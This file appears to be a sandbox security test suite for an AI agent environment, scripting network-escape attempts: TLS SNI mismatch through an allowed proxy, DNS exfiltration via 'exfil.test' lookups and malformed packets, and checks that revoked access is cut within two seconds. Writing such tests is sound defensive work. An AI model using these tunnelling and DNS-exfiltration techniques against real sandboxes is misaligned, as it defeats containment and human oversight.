import { wrongIn, type Attack } from '../../attack.ts';
import { createRepo, settled, startSession, until } from '../../../scenarios/session.ts';
import { eventually } from '../../../support/eventually.ts';
import { fromInside } from '../../rig/from-inside.ts';
import { PUBLIC_ADDRESS, PUBLIC_GREETING } from '../../rig/internet.ts';

const area = 'network';

/** What goes through a way that is open, and how the way is shut. */
export const INSIDE_TUNNELS: Attack[] = [
  fromInside({
    name: 'a tunnel to an allowed host carries no TLS for another one',
    area,
    must: 'Where the name in the ClientHello, or its absence, is not the host that was asked for, not a byte goes on.',
    request: { network: { allow: ['sni.attacker.test:443'] } },
    script: async ({ internet }) => {
      await internet.serve('sni.attacker.test', [PUBLIC_ADDRESS]);
      return `
          for name in hidden.test www.sni.attacker.test sni.attacker.test.evil.test; do
            curl -sk -o /dev/null -m 5 --noproxy '' --proxy http://127.0.0.1:3128 --connect-to "$name:443:sni.attacker.test:443" "https://$name/"
          done
          weapon <<'PY'
from weapon import *
import ssl
for name in (None, "HIDDEN.test", "127.0.0.1"):
    with socket.socket(socket.AF_UNIX) as gateway:
        gateway.settimeout(5)
        gateway.connect(GATEWAY)
        gateway.sendall(b"CONNECT sni.attacker.test:443 HTTP/1.1\\r\\nHost: sni.attacker.test:443\\r\\n\\r\\n")
        gateway.recv(4096)
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        try:
            context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
        except ssl.SSLWantReadError:
            pass
        try:
            hello = outgoing.read()
            for at in range(0, len(hello), 50):
                gateway.sendall(hello[at:at + 50])
            print("answer:", gateway.recv(4096)[:20])
        except OSError as error:
            print("cut:", error)
PY`;
    },
    holds: (_outcome, { internet }) =>
      wrongIn([
        internet.strangeBytes() === 0,
        `${internet.strangeBytes()} beginnings of TLS arrived under another name`,
      ]),
  }),
  fromInside({
    name: 'names looked up inside tell nothing outside until somebody connects',
    area,
    must: 'The sandbox’s own DNS answers by itself; what is not allowed is neither asked for nor reached, by any name server that the agent picks.',
    request: { network: { allow: ['open.attacker.test:80'] } },
    script: async ({ internet }) => {
      await internet.serve('open.attacker.test', [PUBLIC_ADDRESS]);
      return `
        [ "$(curl -s -m 5 --noproxy '*' http://open.attacker.test/)" = '${PUBLIC_GREETING}' ] || hole "what is allowed is not reached by name"
        denied "by name" curl -sf -m 5 --noproxy '*' http://leak-6.exfil.test/
        for server in 127.0.0.1 127.0.0.11 8.8.8.8 169.254.169.253; do
          timeout 5 node -e "const r = new (require('dns').Resolver)({ timeout: 500, tries: 1 }); r.setServers(['$server']); for (const t of ['A', 'TXT', 'MX', 'NS', 'ANY']) r.resolve('leak-7-' + t + '.exfil.test', t, () => {})"
        done
        weapon <<'PY'
from weapon import *
for packet in (b"", b"\\0", b"\\0" * 12, b"\\xff" * 512, b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + b"\\xc0\\x0c" * 20, b"\\x12\\x34\\x01\\0\\xff\\xff\\0\\0\\0\\0\\0\\0" + b"\\x3f" + b"a" * 63, os.urandom(4096)):
    for _ in range(50):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ("127.0.0.1", 53))
PY
        git ls-remote origin > /dev/null || hole "nothing is reached afterwards"`;
    },
    holds: async (_outcome, { internet }) => {
      const asked = (await internet.journal()).filter(({ what, of }) => what === 'asked' && of.includes('leak'));
      return wrongIn([asked.length === 0, `looked up outside: ${asked.map(({ of }) => of).join()}`]);
    },
  }),
  {
    name: 'a way that is shut while the session runs is cut within two seconds',
    area,
    must: 'An open tunnel ends, and the next one is refused.',
    async run(arena, underWay) {
      const { stack, starts, internet } = arena;
      await internet.serve('shut.attacker.test', [PUBLIC_ADDRESS]);
      const repoId = await createRepo(stack);
      const script = `while :; do curl -s -o /dev/null -m 2 --noproxy '' --proxy http://127.0.0.1:3128 -H "X-At: $(date +%s%N)" http://shut.attacker.test/shut; done`;
      const { id } = await starts.run(async () => {
        const network = { allow: ['shut.attacker.test:80'] };
        const accepted = await startSession(stack, {
          repos: [{ id: repoId }],
          command: ['sh', '-c', script],
          network,
          timeoutSeconds: 60,
        });
        return until(stack, accepted.id, ({ status }) => status === 'running');
      });
      underWay();
      const count = (): number => internet.requests().filter(({ url }) => url === '/shut').length;
      await eventually(count, (seen) => seen > 3);
      await stack.call('PATCH', `/v1/sessions/${id}/network`, { allow: [] });
      const shutAt = Date.now();
      let last = count();
      let lastAt = shutAt;
      await eventually(
        () => {
          if (count() > last) [last, lastAt] = [count(), Date.now()];
          return Date.now() - lastAt;
        },
        (quietMs) => quietMs > 2_500,
        { timeoutMs: 20_000 },
      );
      await stack.call('POST', `/v1/sessions/${id}/stop`, { graceSeconds: 0 });
      await settled(stack, id);
      return wrongIn([lastAt - shutAt <= 2_000, `requests came through for ${lastAt - shutAt} ms`]);
    },
  },
];
